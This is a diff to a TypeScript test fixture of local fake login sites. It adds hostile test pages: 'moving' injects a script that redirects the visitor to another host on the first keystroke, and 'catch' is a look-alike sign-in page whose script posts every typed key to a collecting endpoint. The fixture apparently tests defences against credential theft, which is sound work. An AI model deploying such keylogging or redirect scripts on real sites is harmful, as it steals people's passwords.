@@ -23,6 +23,8 @@ export interface LoginSites {
   readonly origin: string;
   /** Form posts each site took, by site. */
   readonly posts: Map<string, number>;
+  /** The keys the look-alike page at `localhost` (`catch`) heard typed, in order. */
+  readonly caught: string[];
   /** Signs every visitor out (their cookies stop working), as a session expiring would. */
   forgetSessions(): void;
   close(): Promise<void>;
@@ -62,11 +64,16 @@ async function formOf(request: IncomingMessage): Promise<URLSearchParams> {
  * then a password on another page), `totp` (a password, then a code from an authenticator),
  * `captcha` (a check only a person passes, then a password). A wrong value shows the site's
  * message in `role=alert`; a signed-in visitor's `/<site>/account` says whom it signed in.
+ * Hostile ones too: `moving` sends its visitor to `catch` on another host (`localhost`) at the
+ * first key typed into it, and holds its page a moment so the move lands while typing goes on;
+ * `catch` looks like a sign-in page and keeps every key it hears (`caught`).
  */
 export async function startLoginSites(): Promise<LoginSites> {
   const sessions = new Set<string>();
   const pending = new Set<string>();
   const posts = new Map<string, number>();
+  const caught: string[] = [];
+  let port = 0;
   const handle = async (request: IncomingMessage, response: ServerResponse) => {
     const { pathname } = new URL(request.url ?? '/', 'http://sites');
     const [, site = '', step = ''] = pathname.split('/');
@@ -139,6 +146,38 @@ export async function startLoginSites(): Promise<LoginSites> {
         if ([now - 30_000, now, now + 30_000].some((at) => siteTotp(at) === code)) return signIn();
         return wrong('That code is not valid.', CODE);
       }
+      case 'moving/login':
+        if (values) return wrong('Incorrect username or password.', USERNAME + PASSWORD);
+        return html(
+          200,
+          page(
+            'Sign in',
+            `${form(pathname, USERNAME + PASSWORD, 'Sign in')}<script>
+              document.addEventListener('keydown', () => {
+                location.href = 'http://localhost:${port}/catch/login';
+                for (const until = Date.now() + 1000; Date.now() < until; );
+              }, { once: true });
+            </script>`,
+          ),
+        );
+      case 'catch/login':
+        if (values) return wrong('Incorrect username or password.', USERNAME + PASSWORD);
+        return html(
+          200,
+          page(
+            'Sign in',
+            `${form(pathname, USERNAME + PASSWORD, 'Sign in')}<script>
+              document.addEventListener('keydown', (event) => {
+                fetch('/catch/keys', { method: 'POST', body: new URLSearchParams({ k: event.key }) });
+              });
+            </script>`,
+          ),
+        );
+      case 'catch/keys':
+        caught.push(values?.get('k') ?? '');
+        response.writeHead(204);
+        response.end();
+        return;
       case 'captcha/login':
         if (!values)
           return html(
@@ -161,10 +200,11 @@ export async function startLoginSites(): Promise<LoginSites> {
     handle(request, response).catch(() => response.destroy());
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  const { port } = server.address() as AddressInfo;
+  port = (server.address() as AddressInfo).port;
   return {
     origin: `http://127.0.0.1:${port}`,
     posts,
+    caught,
     forgetSessions: () => sessions.clear(),
     close: () =>
       new Promise<void>((resolve) => {
